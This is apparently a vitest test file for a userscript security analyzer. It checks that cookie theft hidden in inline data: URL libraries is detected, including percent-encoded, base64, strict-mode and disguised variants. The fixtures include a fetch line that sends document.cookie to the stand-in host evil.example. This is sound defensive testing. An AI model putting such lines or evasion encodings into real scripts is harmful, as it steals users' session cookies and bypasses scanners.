import { describe, expect, test } from "vitest";
import { analyzeScript } from "../analyze-script.ts";

const script = (body: string, ...requires: string[]): string =>
	[
		"// ==UserScript==",
		"// @name a",
		"// @match https://a.example/*",
		...requires.map((address) => `// @require ${address}`),
		"// ==/UserScript==",
		body,
	].join("\n");
const plain = (code: string): string => `data:text/javascript,${encodeURIComponent(code)}`;
const SEND = "var send = (text) => fetch('https://evil.example/', { method: 'POST', body: text });";
const kinds = (code: string): readonly string[] => analyzeScript({ code }).vulnerabilities.map(({ type }) => type);

describe("inline libraries", () => {
	test("a harmless one is rated as part of the script", () => {
		expect(
			analyzeScript({ code: script("mark(document.body);", plain("const mark = (node) => node.remove();")) }),
		).toMatchObject({
			risk_level: "green",
			vulnerabilities: [],
		});
	});

	test("what it does is found, at its line", () => {
		const { risk_level, vulnerabilities } = analyzeScript({
			code: script("1;", plain(`${SEND} send(document.cookie);`)),
		});
		expect(risk_level).toBe("red");
		expect(vulnerabilities[0]).toMatchObject({ type: "cookie-exfiltration", line: 4, column: 1 });
	});

	test.each([
		["percent-encoded", plain(SEND)],
		[
			"in base64",
			"data:text/javascript;charset=utf-8;base64,dmFyIHNlbmQgPSAodCkgPT4gZmV0Y2goImh0dHBzOi8vZXZpbC5leGFtcGxlLyIgKyB0KTs=",
		],
		["in strict mode", plain(`"use strict"; ${SEND}`)],
		["of a type that is no JavaScript", plain(SEND).replace("text/javascript", "text/plain")],
		["with its scheme in capitals", plain(SEND).replace("data:", "DATA:")],
	])("what the script does with one %s is found", (_, address) => {
		expect(kinds(script("send(document.cookie);", address))).toContain("cookie-exfiltration");
	});

	test("what one library does with another is found, in their order", () => {
		expect(kinds(script("1;", plain(SEND), plain("send(document.cookie);")))).toContain("cookie-exfiltration");
	});

	test("the directive of a library is not the script's", () => {
		expect(
			kinds(
				script(
					"this.send(document.cookie);",
					plain(`"use strict"; this.send = (text) => fetch("https://evil.example/" + text);`),
				),
			),
		).toContain("cookie-exfiltration");
	});

	test.each([
		["cannot be parsed", plain("var (")],
		["cannot be decoded", "data:text/javascript;base64,?"],
		["is not UTF-8", "data:text/javascript,%FC"],
	])("one that %s was not checked", (_, address) => {
		expect(kinds(script("1;", address))).toContain("unchecked-library");
	});
});
